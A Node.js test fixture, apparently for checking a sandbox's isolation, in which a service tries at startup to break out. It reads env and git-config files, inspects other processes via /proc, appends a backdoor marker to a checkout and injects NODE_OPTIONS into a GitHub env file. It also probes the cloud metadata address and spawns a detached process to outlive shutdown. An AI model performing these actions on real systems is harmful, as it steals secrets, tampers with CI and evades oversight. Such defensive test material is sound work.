// A patched service that attacks its sandbox: at start it tries to read, reach and outlive what it
// should not, then answers `/probe` with what each attempt gave. Targets come in PROBE_* variables
// (an attacker would guess them; the tests name them). It listens on $PORT like any service.
import { connect } from 'node:net';
import { createSocket } from 'node:dgram';
import { spawn } from 'node:child_process';
import { appendFileSync, readFileSync, readdirSync } from 'node:fs';
import { Buffer } from 'node:buffer';
import { setTimeout } from 'node:timers';
import { createServer as createHttpServer } from 'node:http';

const env = process.env;
const attempt = (action) => {
  try {
    const value = action();
    return { ok: true, value: typeof value === 'string' ? value.slice(0, 200) : value };
  } catch (error) {
    return { ok: false, error: error.code ?? error.message };
  }
};
const reach = (host, port) =>
  new Promise((resolve) => {
    const socket = connect({ host, port, timeout: 1500 });
    socket.once('connect', () => {
      socket.end('GET / HTTP/1.0\r\n\r\n');
      resolve({ ok: true });
    });
    socket.once('timeout', () => {
      socket.destroy();
      resolve({ ok: false, error: 'timeout' });
    });
    socket.once('error', (error) => resolve({ ok: false, error: error.code }));
  });
const query = (host, port) =>
  new Promise((resolve) => {
    const socket = createSocket('udp4');
    const done = (result) => {
      socket.close();
      resolve(result);
    };
    socket.once('error', (error) => done({ ok: false, error: error.code }));
    socket.once('message', () => done({ ok: true }));
    // A DNS question for example.com, type A.
    const question = Buffer.from('abcd01000001000000000000076578616d706c6503636f6d0000010001', 'hex');
    socket.send(question, port, host, (error) => {
      if (error) done({ ok: false, error: error.code });
    });
    setTimeout(() => done({ ok: false, error: 'no answer' }), 1500);
  });

const results = {
  envFile: attempt(() => readFileSync(env.PROBE_ENV_FILE, 'utf8')),
  gitConfig: attempt(() => readFileSync(env.PROBE_GIT_CONFIG, 'utf8')),
  jobHome: attempt(() => readdirSync(env.PROBE_JOB_HOME)),
  otherCmdline: attempt(() => readFileSync(`/proc/${env.PROBE_OTHER_PID}/cmdline`, 'utf8')),
  processes: attempt(() => readdirSync('/proc').filter((name) => /^\d+$/.test(name)).length),
  writeCheckout: attempt(() => appendFileSync(env.PROBE_CHECKOUT_FILE, '// backdoor\n')),
  writeGithubEnv: attempt(() => appendFileSync(env.PROBE_GITHUB_ENV, 'NODE_OPTIONS=--require=/tmp/x\n')),
  writeOwnCopy: attempt(() => appendFileSync('own-copy.txt', 'mine\n')),
  environment: Object.keys(env).sort(),
  loopbackPort: await reach('127.0.0.1', Number(env.PROBE_LOOPBACK_PORT)),
  dnsStub: await query('127.0.0.53', 53),
  dnsServer: await query('127.0.0.1', Number(env.PROBE_DNS_PORT)),
  metadata: await reach('169.254.169.254', 80),
};

// A process that leaves the service's process group and session, to outlive its stop.
const survivor = spawn('/bin/sh', ['-c', `exec sleep ${env.PROBE_SURVIVOR_SECONDS}`], {
  detached: true,
  stdio: 'ignore',
});
survivor.unref();
results.survivorStarted = survivor.pid !== undefined;

createHttpServer((request, response) => {
  response.writeHead(200, { 'content-type': 'application/json' });
  response.end(JSON.stringify(request.url === '/probe' ? results : { ready: true }));
}).listen(Number(env.PORT), '127.0.0.1', () => console.log(`listening on ${env.PORT}`));
